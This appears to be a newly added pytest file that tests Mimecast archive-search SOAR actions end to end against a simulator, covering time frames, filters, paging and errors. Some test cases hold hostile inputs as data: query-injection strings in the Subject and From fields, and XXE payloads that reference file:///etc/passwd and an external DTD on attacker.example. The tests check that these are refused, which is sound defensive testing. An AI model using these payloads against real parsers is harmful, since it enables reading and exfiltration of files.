@@ -1,0 +1,438 @@
+"""Simple and Advanced Archive Search end to end: the real scripts as platform subprocesses against the simulator.
+
+The SOAR clock (run_action's `now=`) and the simulator clock are frozen at the same instant, so time
+frames resolve to exact ranges. Messages are the spec's (§4.2, §4.3), written out here on purpose.
+"""
+
+from datetime import datetime, timedelta
+
+import pytest
+
+SIMPLE = "Simple Archive Search"
+ADVANCED = "Advanced Archive Search"
+SEARCH = "/api/archive/search"
+FOUND = "Successfully found archive emails for the provided criteria in Mimecast"
+NOT_FOUND = "No archive emails were found for the provided criteria in Mimecast"
+NOW = "2025-03-31T12:00:00Z"
+# The spec's default "Fields To Return" (§4.2).
+DEFAULT_FIELDS_CSV = (
+    "attachmentcount,status,subject,size,receiveddate,displayfrom,displayfromaddress,id,displayto,"
+    "displaytoaddresslist,smash"
+)
+DEFAULT_FIELDS = DEFAULT_FIELDS_CSV.split(",")
+# Newest first. Recipients are the mailboxes the emails are archived in.
+EMAILS = [
+    ("m30", "2025-03-31T11:30:00Z", "alice@partner.example", ["analyst@corp.example"], "Invoice 1001"),
+    ("h3", "2025-03-31T09:00:00Z", "bob@vendor.example", ["ceo@corp.example"], "Quarterly report"),
+    (
+        "h12",
+        "2025-03-31T00:00:00Z",
+        "alice@partner.example",
+        ["ceo@corp.example", "analyst@corp.example"],
+        "Invoice 1002 overdue",
+    ),
+    ("d3", "2025-03-28T09:00:00Z", "carol@news.example", ["team@corp.example"], "Weekly newsletter"),
+    ("d20", "2025-03-11T12:00:00Z", "bob@vendor.example", ["analyst@corp.example"], "Invoice 0999"),
+    ("feb28_13h", "2025-02-28T13:00:00Z", "dave@partner.example", ["ceo@corp.example"], "Contract draft"),
+    ("feb28_11h", "2025-02-28T11:00:00Z", "alice@partner.example", ["ceo@corp.example"], "Old invoice"),
+]
+
+
+def archived(email_id, received, sender, recipients, subject):
+    return {
+        "id": email_id,
+        "receiveddate": received,
+        "displayfromaddress": sender,
+        "displaytoaddresslist": recipients,
+        "subject": subject,
+    }
+
+
+@pytest.fixture
+def archive(simulator_client):
+    """The simulator frozen at NOW with exactly EMAILS archived; returns its admin client."""
+    simulator_client.freeze_clock(NOW)
+    simulator_client.post("/_sim/archive/reset", {"size": 0})
+    add_emails(simulator_client, *(archived(*email) for email in EMAILS))
+    return simulator_client
+
+
+@pytest.fixture
+def simple(action_runner, api2_instance):
+    def run(**params):
+        return action_runner(
+            SIMPLE, {name.replace("_", " "): value for name, value in params.items()}, instance=api2_instance, now=NOW
+        )
+
+    return run
+
+
+@pytest.fixture
+def advanced(action_runner, api2_instance):
+    def run(xml):
+        return action_runner(ADVANCED, {"XML Query": xml}, instance=api2_instance, now=NOW)
+
+    return run
+
+
+def add_emails(client, *emails):
+    client.post("/_sim/archive/emails", {"emails": list(emails)})
+
+
+def searches(client):
+    return client.log(path=SEARCH)
+
+
+def parsed_queries(client):
+    return client.get("/_sim/archive/queries")["queries"]
+
+
+def result_ids(run):
+    return [item["id"] for item in run.json_result]
+
+
+@pytest.mark.parametrize(
+    ("params", "date_from", "date_to", "expected"),
+    [
+        ({"Time Frame": "Last Hour"}, "2025-03-31T11:00:00+0000", "2025-03-31T12:00:00+0000", ["m30"]),
+        ({"Time Frame": "Last 6 Hours"}, "2025-03-31T06:00:00+0000", "2025-03-31T12:00:00+0000", ["m30", "h3"]),
+        (
+            {"Time Frame": "Last 24 Hours"},
+            "2025-03-30T12:00:00+0000",
+            "2025-03-31T12:00:00+0000",
+            ["m30", "h3", "h12"],
+        ),
+        (
+            {"Time Frame": "Last Week"},
+            "2025-03-24T12:00:00+0000",
+            "2025-03-31T12:00:00+0000",
+            ["m30", "h3", "h12", "d3"],
+        ),
+        (  # one calendar month back from 31 March is 28 February, same time of day
+            {"Time Frame": "Last Month"},
+            "2025-02-28T12:00:00+0000",
+            "2025-03-31T12:00:00+0000",
+            ["m30", "h3", "h12", "d3", "d20", "feb28_13h"],
+        ),
+        (  # any ISO 8601: an offset, and no offset (UTC)
+            {"Time Frame": "Custom", "Start Time": "2025-03-31T08:00:00+02:00", "End Time": "2025-03-31 10:00"},
+            "2025-03-31T06:00:00+0000",
+            "2025-03-31T10:00:00+0000",
+            ["h3"],
+        ),
+        (  # without End Time the search ends now
+            {"Time Frame": "Custom", "Start Time": "2025-03-28T09:00:00Z"},
+            "2025-03-28T09:00:00+0000",
+            "2025-03-31T12:00:00+0000",
+            ["m30", "h3", "h12", "d3"],
+        ),
+        (  # Start and End Time are ignored unless Time Frame is Custom
+            {"Time Frame": "Last Hour", "Start Time": "not a time", "End Time": "2020-01-01"},
+            "2025-03-31T11:00:00+0000",
+            "2025-03-31T12:00:00+0000",
+            ["m30"],
+        ),
+    ],
+)
+def test_time_frames_resolve_to_utc_ranges_ending_now(
+    archive, action_runner, api2_instance, params, date_from, date_to, expected
+):
+    run = action_runner(SIMPLE, params, instance=api2_instance, now=NOW)
+
+    assert run.completed and run.result_value is True
+    assert run.message == FOUND
+    assert result_ids(run) == expected
+    assert [row["id"] for row in run.tables["Results"]] == expected
+    [search] = searches(archive)
+    assert search["body"]["data"][0]["admin"] is True
+    [query] = parsed_queries(archive)
+    assert query["date"] == {"select": "between", "from": date_from, "to": date_to}
+    assert query["text"] == [] and query["mailboxes"] == [] and query["return_fields"] == DEFAULT_FIELDS
+    assert f"searching emails received from {date_from} to {date_to} (UTC)" in run.debug_output
+    ignored = "Start Time" in params and params["Time Frame"] != "Custom"
+    assert ('"Start Time" and "End Time" are used only when "Time Frame" is Custom; ignored.' in run.debug_output) == (
+        ignored
+    )
+
+
+def term(field, value):
+    return {"field": field, "value": value}
+
+
+@pytest.mark.parametrize(
+    ("params", "text", "mailboxes", "expected"),
+    [
+        ({"From": "alice@partner.example"}, [[term("from", "alice@partner.example")]], [], ["m30", "h12"]),
+        (
+            {"From": "alice@partner.example,\n bob@vendor.example"},
+            [[term("from", "alice@partner.example"), term("from", "bob@vendor.example")]],
+            [],
+            ["m30", "h3", "h12", "d20"],
+        ),
+        ({"To": "ceo@corp.example"}, [[term("to", "ceo@corp.example")]], [], ["h3", "h12", "feb28_13h"]),
+        (
+            {"To": "ceo@corp.example, team@corp.example"},
+            [[term("to", "ceo@corp.example"), term("to", "team@corp.example")]],
+            [],
+            ["h3", "h12", "d3", "feb28_13h"],
+        ),
+        ({"Subject": "invoice"}, [[term("subject", "invoice")]], [], ["m30", "h12", "d20"]),
+        ({"Mailboxes": "team@corp.example"}, [], ["team@corp.example"], ["d3"]),
+        (
+            {
+                "From": "alice@partner.example, dave@partner.example",
+                "To": "ceo@corp.example",
+                "Subject": "Invoice",
+                "Mailboxes": "ceo@corp.example,\nanalyst@corp.example",
+            },
+            [
+                [term("from", "alice@partner.example"), term("from", "dave@partner.example")],
+                [term("to", "ceo@corp.example")],
+                [term("subject", "Invoice")],
+            ],
+            ["ceo@corp.example", "analyst@corp.example"],
+            ["h12"],
+        ),
+    ],
+)
+def test_filters_alone_and_combined(archive, simple, params, text, mailboxes, expected):
+    run = simple(**{"Time Frame": "Last Month", **params})
+
+    assert run.completed and run.message == FOUND
+    assert result_ids(run) == expected
+    [query] = parsed_queries(archive)
+    assert query["text"] == text and query["mailboxes"] == mailboxes
+
+
+def test_fields_to_return_pasted_with_commas_and_newlines(archive, simple):
+    run = simple(**{"Time Frame": "Last 6 Hours", "Fields To Return": "id,\n subject ,\n\ndisplaytoaddresslist,"})
+
+    assert run.completed
+    assert run.json_result == [
+        {
+            "id": "m30",
+            "subject": "Invoice 1001",
+            "displaytoaddresslist": [{"displayableName": "", "emailAddress": "analyst@corp.example"}],
+        },
+        {
+            "id": "h3",
+            "subject": "Quarterly report",
+            "displaytoaddresslist": [{"displayableName": "", "emailAddress": "ceo@corp.example"}],
+        },
+    ]
+    assert run.tables["Results"] == [
+        {"id": "m30", "subject": "Invoice 1001", "displaytoaddresslist": "analyst@corp.example"},
+        {"id": "h3", "subject": "Quarterly report", "displaytoaddresslist": "ceo@corp.example"},
+    ]
+    assert parsed_queries(archive)[0]["return_fields"] == ["id", "subject", "displaytoaddresslist"]
+
+
+def test_default_fields_come_back_as_mimecast_returns_them(archive, simple):
+    run = simple(**{"Time Frame": "Last Hour"})
+
+    [item] = run.json_result
+    assert list(item) == DEFAULT_FIELDS
+    assert item["receiveddate"] == "2025-03-31T11:30:00+0000" and item["status"] == "ARCHIVED"
+    assert [list(row) for row in run.tables["Results"]] == [DEFAULT_FIELDS]
+
+
+@pytest.mark.parametrize(
+    ("parameter", "value"),
+    [
+        ("Subject", "Tom & Jerry <tom@example.com> \"quoted\" 'single'"),
+        ("Subject", "</text><text>from:*"),
+        ("From", "x@evil.example</text><text>from:*"),
+        ("From", '"o\'brien"&co@evil.example'),
+    ],
+)
+def test_user_values_cannot_change_the_query_structure(archive, simple, parameter, value):
+    field = {"Subject": "subject", "From": "from"}[parameter]
+    email = {"subject": value} if parameter == "Subject" else {"displayfromaddress": value}
+    add_emails(archive, {"id": "tricky", "receiveddate": "2025-03-31T11:50:00Z", **email})
+
+    run = simple(**{"Time Frame": "Last Hour", parameter: value})
+
+    assert run.completed and result_ids(run) == ["tricky"]
+    [query] = parsed_queries(archive)
+    assert query["text"] == [[term(field, value)]]
+
+
+@pytest.mark.parametrize(
+    ("max_emails", "page_sizes"),
+    [(None, [50]), ("1000", [500, 500]), ("1100", [500, 500, 100])],
+)
+def test_pages_bring_exactly_max_emails_with_the_fewest_requests(simulator_client, simple, max_emails, page_sizes):
+    simulator_client.freeze_clock(NOW)
+    simulator_client.post("/_sim/archive/reset", {"size": 3000})  # about 1550 in the last month
+    params = {"Time Frame": "Last Month", **({"Max Emails To Return": max_emails} if max_emails else {})}
+
+    run = simple(**params)
+
+    expected = int(max_emails or 50)
+    assert run.completed and run.message == FOUND
+    assert len(run.json_result) == expected == len({item["id"] for item in run.json_result})
+    received = [item["receiveddate"] for item in run.json_result]
+    assert received == sorted(received, reverse=True)
+    assert len(run.tables["Results"]) == expected
+    sent = searches(simulator_client)
+    assert [entry["body"]["meta"]["pagination"]["pageSize"] for entry in sent] == page_sizes
+    assert [bool(entry["body"]["meta"]["pagination"].get("pageToken")) for entry in sent] == [
+        False,
+        *([True] * (len(page_sizes) - 1)),
+    ]
+
+
+def test_no_match_completes_with_the_no_data_message(archive, simple):
+    run = simple(**{"Time Frame": "Last Hour", "Subject": "no such subject"})
+
+    assert run.completed and run.result_value is True
+    assert run.message == NOT_FOUND
+    assert run.json_result == []
+    assert "Results" not in run.tables
+    assert len(searches(archive)) == 1
+
+
+@pytest.mark.parametrize(
+    ("params", "reason"),
+    [
+        (
+            {"Time Frame": "Custom"},
+            '"Start Time" should be provided, when "Custom" is selected in "Time Frame" parameter.',
+        ),
+        (
+            {"Time Frame": "Custom", "Start Time": "2025-03-30T10:00:00Z", "End Time": "2025-03-30T11:00:00+02:00"},
+            '"End Time" should be later than "Start Time".',
+        ),
+        (
+            {"Time Frame": "Custom", "Start Time": "yesterday"},
+            'Invalid value for "Start Time": "yesterday". Use ISO 8601',
+        ),
+        (
+            {"Time Frame": "Custom", "Start Time": "2025-03-01", "End Time": "31/03/2025"},
+            'Invalid value for "End Time"',
+        ),
+        (
+            {"Max Emails To Return": "0"},
+            'Invalid value for "Max Emails To Return": "0". It must be a positive whole number.',
+        ),
+        ({"Max Emails To Return": "-5"}, 'Invalid value for "Max Emails To Return": "-5"'),
+        ({"Max Emails To Return": "ten"}, 'Invalid value for "Max Emails To Return": "ten"'),
+        ({"Time Frame": "Last Year"}, 'Invalid value for "Time Frame": "Last Year". Allowed values: Last Hour,'),
+        ({"Fields To Return": " ,\n, "}, '"Fields To Return" must name at least one field'),
+    ],
+)
+def test_invalid_input_fails_before_anything_is_sent(simulator_client, simple, params, reason):
+    run = simple(**params)
+
+    assert run.failed and run.result_value is False
+    assert run.message.startswith(f'Error executing action "{SIMPLE}". Reason: {reason}')
+    assert simulator_client.log() == []
+
+
+def test_simple_search_with_api1_credentials(simulator_client, action_runner, api1_instance):
+    # API 1.0 signs the real time, so this test runs on the real clocks.
+    simulator_client.post("/_sim/archive/reset", {"size": 0})
+    received = datetime.fromisoformat(simulator_client.clock()["now"]) - timedelta(minutes=1)
+    add_emails(simulator_client, {"id": "a-minute-ago", "receiveddate": received.isoformat(), "subject": "Fresh"})
+
+    run = action_runner(SIMPLE, {"Subject": "fresh"}, instance=api1_instance)
+
+    assert run.completed and result_ids(run) == ["a-minute-ago"]
+    assert [entry["auth_mode"] for entry in searches(simulator_client)] == ["api1"]
+
+
+def test_missing_archive_permission_is_named(archive, simple, api2_instance):
+    archive.set_permissions(["Account | Dashboard | Read"], client_id=api2_instance["Client ID"])
+
+    run = simple(**{"Time Frame": "Last Hour"})
+
+    assert run.failed and '"Archive | Search Logs | Read"' in run.message
+
+
+def xmlquery(muse, page_size=25):
+    return (
+        '<?xml version="1.0"?>\n<xmlquery trace="iql,muse">\n'
+        f'  <metadata query-type="emailarchive" archive="true" active="false" page-size="{page_size}" startrow="0">\n'
+        "    <smartfolders/><return-fields><return-field>id</return-field>"
+        "<return-field>receiveddate</return-field></return-fields>\n"
+        f"  </metadata>\n  <muse>{muse}</muse>\n</xmlquery>"
+    )
+
+
+def test_advanced_search_sends_the_query_unchanged_and_returns_the_items(archive, advanced):
+    query = xmlquery('<text>subject:invoice</text><date select="last_year"/>')
+
+    run = advanced(query)
+
+    assert run.completed and run.message == FOUND
+    assert run.json_result == [
+        {"id": "m30", "receiveddate": "2025-03-31T11:30:00+0000"},
+        {"id": "h12", "receiveddate": "2025-03-31T00:00:00+0000"},
+        {"id": "d20", "receiveddate": "2025-03-11T12:00:00+0000"},
+        {"id": "feb28_11h", "receiveddate": "2025-02-28T11:00:00+0000"},
+    ]
+    assert [row["id"] for row in run.tables["Results"]] == ["m30", "h12", "d20", "feb28_11h"]
+    [search] = searches(archive)
+    assert search["body"]["data"] == [{"admin": True, "query": query}]
+
+
+def test_advanced_search_follows_next_up_to_its_5000_email_cap(simulator_client, advanced):
+    simulator_client.freeze_clock(NOW)
+    simulator_client.post("/_sim/archive/reset", {"size": 5100})
+
+    run = advanced(xmlquery('<date select="last_year"/>', page_size=100))
+
+    assert run.completed and run.message == FOUND
+    assert len(run.json_result) == 5000 == len({item["id"] for item in run.json_result})
+    sent = searches(simulator_client)
+    assert [entry["body"]["meta"]["pagination"]["pageSize"] for entry in sent] == [500] * 10
+    assert "Returned 5000 emails, the most this action returns" in run.debug_output
+    assert "Mimecast has more emails matching the query" in run.debug_output
+
+
+def test_advanced_search_without_match_completes_with_the_no_data_message(archive, advanced):
+    run = advanced(xmlquery("<text>subject:nothing like this</text>"))
+
+    assert run.completed and run.result_value is True and run.message == NOT_FOUND and run.json_result == []
+
+
+@pytest.mark.parametrize(
+    ("query", "reason"),
+    [
+        ("<!DOCTYPE xmlquery><xmlquery/>", "it contains a DOCTYPE declaration"),
+        (
+            '<!DOCTYPE xmlquery [<!ENTITY boom "lol">]><xmlquery><muse><text>&boom;</text></muse></xmlquery>',
+            'it declares the entity "boom"',
+        ),
+        (
+            '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xmlquery><muse><text>&xxe;</text></muse></xmlquery>',
+            'it declares the entity "xxe", an external reference to "file:///etc/passwd"',
+        ),
+        (
+            '<!DOCTYPE xmlquery SYSTEM "http://attacker.example/q.dtd"><xmlquery/>',
+            'it refers to an external document type definition ("http://attacker.example/q.dtd")',
+        ),
+        (
+            xmlquery("<text>subject:a & b</text>"),
+            "it is not well-formed XML: not well-formed (invalid token) at line 6, column 26 "
+            'near "se><text>subject:a & b</text></muse>".',
+        ),
+        ("<xmlquery><muse></xmlquery>", "it is not well-formed XML: mismatched tag at line 1, column 19"),
+    ],
+)
+def test_unsafe_or_malformed_advanced_query_is_refused_before_any_request(simulator_client, advanced, query, reason):
+    run = advanced(query)
+
+    assert run.failed and run.result_value is False
+    prefix = f'Error executing action "{ADVANCED}". Reason: "XML Query" was refused and nothing was sent to Mimecast: '
+    assert run.message.startswith(prefix + reason)
+    assert simulator_client.log() == []
+
+
+def test_mimecast_fail_answer_gives_the_failure_with_mimecasts_text(archive, advanced):
+    run = advanced(xmlquery('<date select="last_fortnight"/>'))
+
+    assert run.failed and run.result_value is False
+    assert run.message.startswith(f'Error executing action "{ADVANCED}". Reason: ')
+    assert "Invalid search XML (err_invalid_search_xml, field query)" in run.message
+    assert [entry["status"] for entry in searches(archive)] == [200]
